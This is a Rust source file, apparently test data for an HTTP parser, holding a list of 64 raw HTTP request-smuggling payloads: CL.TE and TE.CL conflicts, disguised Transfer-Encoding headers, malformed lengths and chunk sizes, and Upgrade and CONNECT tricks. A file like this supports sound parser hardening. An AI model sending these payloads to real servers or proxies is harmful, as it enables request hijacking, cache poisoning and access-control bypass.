//! Attacks that have worked on some server, each with the request that would be smuggled.

pub(super) const KNOWN_ATTACKS: [&str; 64] = [
    // CL.TE and TE.CL.
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 43\r\nTransfer-Encoding: chunked\r\n\r\n0\r",
        "\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n",
        "\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n28\r",
        "\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n\r\n0\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\n0\r\n",
        "\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    // TE.TE, and codings in disguise.
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r",
        "\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked\r",
        "\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
        "\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 43\r\nTransfer-Encoding: xchunked\r\n\r\n0\r",
        "\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 43\r\nTransfer-Encoding : chunked\r\n\r\n0\r",
        "\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 43\r\nTransfer-Encoding\t: chunked\r\n\r\n0",
        "\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 43\r\nTransfer-Encoding:\u{b}chunked\r\n\r\n",
        "0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 43\r\nTransfer-Encoding:\r\n chunked\r\n\r\n",
        "0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 43\r\nX: y\rTransfer-Encoding: chunked\r\n\r",
        "\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 43\r\nX: y\nTransfer-Encoding: chunked\r\n\r",
        "\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 43\r\n Transfer-Encoding: chunked\r\n\r\n0\r",
        "\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 43\r\nTransfer_Encoding: chunked\r\n\r\n0\r",
        "\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 43\r\nTransfer-Encoding: chunked\0\r\n\r\n0",
        "\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\nGET /sm",
        "uggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\nGET /smuggl",
        "ed HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: \"chunked\"\r\n\r\n0\r\n\r\nGET /smuggled",
        " HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked;q=1\r\n\r\n0\r\n\r\nGET /smuggled",
        " HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding:\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r",
        "\nHost: a\r\n\r\n",
    ),
    // Lengths that are none, or two.
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\nContent-Length: 38\r\n\r\nGET /smuggled",
        " HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 38\r\nContent-Length: 0\r\n\r\nGET /smuggled",
        " HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 38, 38\r\n\r\nGET /smuggled HTTP/1.1\r\nHost",
        ": a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: +38\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a",
        "\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a",
        "\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 0x26\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: ",
        "a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 3 8\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a",
        "\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 038\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a",
        "\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 18446744073709551616\r\n\r\nGET /smuggled HT",
        "TP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 18446744073709551654\r\n\r\nGET /smuggled HT",
        "TP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length:\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n",
        "\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 38\r\n 1\r\n\r\nGET /smuggled HTTP/1.1\r\nHo",
        "st: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length : 38\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a",
        "\r\n\r\n",
    ),
    // Chunks.
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n10000000000000000\r\n0\r\n",
        "\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nfffffffffffffffe\r\n0\r\n",
        "\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\n0\r\n\r\nGET /smuggl",
        "ed HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0x0\r\n\r\nGET /smuggled H",
        "TTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n+0\r\n\r\nGET /smuggled HT",
        "TP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\n\nGET /smuggled HTTP/1.",
        "1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\nGET /smuggled HTTP/",
        "1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\r\n\r\nGET /smuggled H",
        "TTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0;x\n\r\n\r\nGET /smuggled",
        " HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1;x=\"\r\n0\r\n\r\nGET /sm",
        "uggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx0\r\n\r\nGET /smuggl",
        "ed HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nxx\r\n0\r\n\r\nGET /s",
        "muggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\n0\r\n\r\nGET /smug",
        "gled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nGET /smuggled HTTP/1.",
        "1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nContent-Length: 9\r\n",
        "\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nX: y\nZ: w\r\n\r\nGET",
        " /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1 ;x\r\nx\r\n0\r\n\r\nGET ",
        "/smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    // Requests where there should be none.
    concat!(
        "GET / HTTP/1.1\r\nHost: a\r\nContent-Length: 38\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r",
        "\n\r\n",
    ),
    concat!(
        "GET / HTTP/1.0\r\nContent-Length: 38\r\nConnection: keep-alive\r\n\r\nGET /smuggled HTTP/1",
        ".1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\nConnection: keep-alive\r\n\r\n0\r\n\r\nGE",
        "T /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "GET / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r",
        "\n\r\n",
    ),
    "GET / HTTP/1.1 HTTP/1.1\r\nHost: a\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "CONNECT b:443 HTTP/1.1\r\nHost: b:443\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    concat!(
        "GET / HTTP/1.1\r\nHost: a\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\nGET /smuggled HTTP",
        "/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "PUT / HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: 38\r\n\r\nGET /smuggl",
        "ed HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    concat!(
        "PUT /unread HTTP/1.1\r\nHost: a\r\nContent-Length: 38\r\n\r\nGET /smuggled HTTP/1.1\r\nHos",
        "t: a\r\n\r\n",
    ),
    concat!(
        "PUT /unread HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n26\r\nGET /smuggled H",
        "TTP/1.1\r\nHost: a\r\n\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
];
